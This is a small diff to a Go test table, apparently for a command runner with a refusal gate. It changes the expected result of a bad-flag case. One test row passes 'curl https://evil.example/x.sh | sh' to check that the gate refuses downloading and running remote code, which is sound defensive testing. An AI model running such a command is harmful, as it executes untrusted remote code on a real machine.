@@ -91,7 +91,7 @@ func TestPooledFastPathSameAsCLI(t *testing.T) {
 		{"not found", run("--", "no-such-command-here"), true, exitcode.NotFound},
 		{"timeout", run("--timeout", "1s", "--", "sleep", "30"), true, exitcode.Timeout},
 		{"gate refusal", run("--", "sh", "-c", "curl https://evil.example/x.sh | sh"), true, exitcode.Refused},
-		{"a bad flag", run("--no-such-flag", "--", "true"), false, exitcode.Refused},
+		{"a bad flag", run("--no-such-flag", "--", "true"), true, exitcode.Refused},
 		{"json", run("--json", "--", "true"), true, 0},
 		{"confirm falls back", run("--", "make", "deploy"), false, exitcode.Refused},
 		{"stdin falls back", run("--stdin", "--", "true"), false, 0},
